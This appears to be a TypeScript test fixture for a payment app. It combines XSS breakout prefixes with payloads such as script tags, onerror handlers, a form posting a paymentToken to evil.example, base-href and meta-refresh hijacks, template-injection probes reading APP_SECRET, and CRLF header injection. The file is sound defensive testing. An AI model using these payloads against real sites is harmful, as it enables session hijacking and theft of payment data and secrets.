/** Texts that break out of where they are printed, if they are printed without care. */
const BREAKOUTS = ['', '"', "'", '">', "'>", '-->', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '<!--', '`', '&quot;', '&#34;&gt;', '\\"', '%22%3E', ']]>', '<%= "', '" x="']; // prettier-ignore
const ACTIONS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action=https://evil.example><input name=paymentToken>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example>',
  '<a href="javascript:alert(1)">x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  ' onmouseover=alert(1) autofocus onfocus=alert(1) ',
  '<input type=hidden name=amount value=1>',
  'javascript:alert(1)//',
];
const ODD = [
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<ScRiPt >alert(1)</sCrIpT\n>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u202Etxet desrever\u202C<b>',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= process.env.APP_SECRET %>',
  '<%- global.process.mainModule %>',
  '${7*7}#{7*7}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'Card declined\r\nSet-Cookie: a=b\r\n\r\n<h1>x</h1>',
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => ACTIONS.map((action) => breakout + action)),
  ...ODD,
];

/** A few of each kind, for what takes a whole payment to try. */
export const SOME_HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\'" autofocus onfocus=alert(1) x="',
  '</title></textarea><svg/onload=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '<%= process.env.APP_SECRET %>',
];
